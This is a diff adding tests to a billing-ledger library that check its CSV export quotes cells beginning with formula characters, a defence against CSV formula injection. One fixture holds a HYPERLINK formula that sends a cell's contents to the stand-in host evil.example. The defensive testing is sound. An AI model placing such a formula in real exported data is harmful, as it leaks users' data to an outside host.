@@ -4,8 +4,10 @@ every refusal quick and names what it refuses. One test (or table) per finding."
 from __future__ import annotations
 
 import codecs
+import csv
 import datetime
 import hashlib
+import io
 import json
 import os
 import re
@@ -967,3 +969,48 @@ def test_compare_refuses_names_that_overwrite_a_column(names: tuple[str, str], n
     assert pl.compare(before, after, names=("before", "after")).records()[0]["after"] == Decimal(
         "15.00"
     )
+
+
+# -- 10. CSV cells a spreadsheet would run -----------------------------------------------------
+
+FORMULA_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"P1")', "@SUM(1+1)", "+1", "-5", "=1+1"]
+
+
+def test_balances_csv_neutralises_formulas_and_keeps_amounts_numbers(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Item 10: ids starting with = + - @ were written raw (CSV formula injection); amounts,
+    negative ones included, must stay numbers."""
+    ledger = pl.Ledger.empty()
+    for n, pid in enumerate(FORMULA_IDS):
+        ledger = pay(ledger, f"PAY{n}", "10.00", pid=pid)
+    ledger = pl.add_appointment(ledger, pl.Appointment("A1", "-5", D(2025, 1, 2)))
+    ledger = pl.add_charge(ledger, pl.Charge("C1", "A1", Money("25.00", "USD")))
+    target = tmp_path / "j.jsonl"
+    target.write_text(journal.dumps(ledger), encoding="utf-8")
+    assert main(["balances", str(target), "--format", "csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert sorted(row["patient_id"] for row in rows) == sorted("'" + pid for pid in FORMULA_IDS)
+    for row in rows:
+        assert not row["patient_id"].startswith(tables.FORMULA_STARTS)
+        for field in tables.DASHBOARD.fields():
+            Decimal(row[field])  # every amount is a plain number
+    by_id = {row["patient_id"]: row for row in rows}
+    assert by_id["'-5"]["total_balance"] == "15.00"
+    assert by_id["'=1+1"]["total_balance"] == "-10.00"  # a negative amount is not quoted
+
+
+def test_every_text_cell_of_a_csv_row_is_spreadsheet_safe() -> None:
+    """Item 10: the rule is in tables.csv_row, which every CSV the library writes uses."""
+    row = tables.LINE_ITEMS
+    item = pl.LineItem(
+        charge_id="=C1",
+        appointment_id="@A1",
+        code="+99213",
+        description="\tdesc",
+        responsibility=Money("-1.00", "USD"),
+        paid=Money("0.00", "USD"),
+        balance_due=Money("-1.00", "USD"),
+    )
+    cells = tables.csv_row(row, item, first=["\rP1"])
+    assert cells == ["'\rP1", "'=C1", "'@A1", "'+99213", "'\tdesc", "-1.00", "0.00", "-1.00"]
